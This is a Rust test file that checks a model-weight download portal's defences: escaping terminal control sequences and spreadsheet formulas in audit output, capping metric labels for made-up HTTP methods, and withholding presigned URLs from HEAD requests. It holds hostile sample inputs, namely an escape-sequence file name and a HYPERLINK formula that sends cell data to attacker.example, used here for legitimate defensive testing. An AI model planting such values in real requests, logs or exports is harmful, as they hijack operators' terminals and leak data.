//! The gate and the proof against an attacker and an insider: each scenario
//! reproduces an attack that once worked, and checks what holds now.

use reqwest::StatusCode;

use crate::{cli::weightgate, helpers::*};

both! {
async fn audit_output_shows_hostile_text_without_obeying_it() {
    let t = TestApp::spawn().await;
    let access = t.approved_researcher("term@uni.example.edu").await;
    let links = t.download_links(&access).await;
    let (_, url) = &links[0];
    // A made-up link whose file name is an escape sequence that would
    // clear the operator's screen and retitle the terminal: refused, and
    // the name recorded as sent.
    let hostile = t.url("/dl/not-a-link/%1b%5d0%3bpwned%07%1b%5b2J");
    let response = t.client.get(&hostile).send().await.unwrap();
    assert_eq!(response.status(), StatusCode::FORBIDDEN);
    // A user agent that a spreadsheet would run as a formula.
    let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")";
    let response = t
        .client
        .get(url)
        .header("user-agent", formula)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    response.bytes().await.unwrap();
    t.wait_for_events("file.delivered", 1).await;

    let (ok, table, err) = weightgate(&t, &["audit", "list"], None);
    assert!(ok, "{err}");
    assert!(!table.contains('\u{1b}') && !table.contains('\u{7}'), "{table:?}");
    assert!(table.contains("\\x1b]0;pwned\\x07"), "{table}");
    let (ok, tail, err) = weightgate(&t, &["audit", "tail", "-n", "50"], None);
    assert!(ok, "{err}");
    assert!(!tail.contains('\u{1b}') && tail.contains("\\x1b[2J"), "{tail:?}");

    let (ok, csv, err) = weightgate(&t, &["audit", "list", "--format", "csv"], None);
    assert!(ok, "{err}");
    assert!(csv.contains(&format!("'{}", formula.replace('"', "\"\""))), "{csv}");
    assert!(!csv.contains(&format!(",\"{}", formula.replace('"', "\"\""))), "{csv}");
    let (ok, exported, err) = weightgate(&t, &["audit", "export", "--format", "csv"], None);
    assert!(ok, "{err}");
    assert!(exported.contains("'=HYPERLINK"), "{exported}");

    // JSON lines stay exact: a program reading them gets what was sent.
    let (ok, jsonl, err) = weightgate(&t, &["audit", "list", "--format", "jsonl"], None);
    assert!(ok, "{err}");
    let events: Vec<serde_json::Value> = jsonl.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert!(events.iter().any(|e| e["user_agent"] == formula));
    assert!(events.iter().any(|e| e["subject"]
        .as_str()
        .is_some_and(|s| s.contains("\u{1b}]0;pwned\u{7}\u{1b}[2J"))));
}
}

both! {
async fn made_up_methods_do_not_grow_the_metrics() {
    let t = TestApp::spawn().await;
    let metrics = || async {
        t.client
            .get(t.url("/metrics"))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap()
    };
    for i in 0..300 {
        let method = reqwest::Method::from_bytes(format!("M{i}X").as_bytes()).unwrap();
        for path in ["/", "/no/such/page"] {
            let response = t.client.request(method.clone(), t.url(path)).send().await.unwrap();
            assert!(response.status().is_client_error(), "{}", response.status());
        }
    }
    // The recorder is the test process's, shared with the scenarios running
    // beside this one: look at the method labels, which only this one makes up.
    let text = metrics().await;
    let mut methods: Vec<&str> = all_between(&text, "method=\"", "\"");
    methods.sort_unstable();
    methods.dedup();
    assert!(methods.iter().all(|m| !m.starts_with('M')), "{methods:?}");
    assert!(methods.len() <= 10, "{methods:?}");
    assert!(methods.contains(&"other"), "{methods:?}");
}
}

both! {
async fn a_head_never_hands_out_a_presigned_url() {
    let server = crate::storage::S3Server::start().await;
    let t = TestApp::spawn_with(|c| {
        server.configure(c);
        c.delivery = weightgate::config::DeliveryMode::Redirect;
    })
    .await;
    let slug: weightgate::types::Slug = MODEL.parse().unwrap();
    weightgate::models::set_quota(&t.app, &slug, None, Some(1), "test").await.unwrap();
    let access = t.approved_researcher("head@uni.example.edu").await;
    let links = t.download_links(&access).await;
    assert_eq!(links.len(), 3);
    let no_follow = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    // HEAD on every file, with and without a range: the portal answers
    // from the file's metadata and names no URL the store would serve.
    for (name, url) in &links {
        let size = t.files.iter().find(|(n, _)| n == name).unwrap().1.len();
        for range in [None, Some("bytes=0-0")] {
            let mut head = no_follow.head(url);
            if let Some(range) = range {
                head = head.header("range", range);
            }
            let response = head.send().await.unwrap();
            assert!(response.status().is_success(), "{name}: {}", response.status());
            assert!(response.headers().get("location").is_none(), "{name}: {:?}", response.headers());
            let length = if range.is_some() { 1 } else { size };
            assert_eq!(response.headers()["content-length"], length.to_string().as_str(), "{name}");
        }
    }
    // The one file the quota allows is still there to fetch; a second is not.
    let first = no_follow.get(&links[0].1).send().await.unwrap();
    assert_eq!(first.status(), StatusCode::FOUND);
    let second = no_follow.get(&links[1].1).send().await.unwrap();
    assert_eq!(second.status(), StatusCode::FORBIDDEN);
    let body: serde_json::Value = second.json().await.unwrap();
    assert_eq!(body["error"], "quota_spent");
    // Every HEAD is in the log as a fetch that delivered nothing.
    let events = t.audit_events().await;
    let heads = events
        .iter()
        .filter(|e| e.action == "file.fetch" && e.reason.as_deref() == Some("head"))
        .count();
    assert_eq!(heads, 6);
    let delivered: Vec<_> = events.iter().filter(|e| e.action == "file.delivered").collect();
    assert_eq!(delivered.len(), 1, "{delivered:?}");
}
}

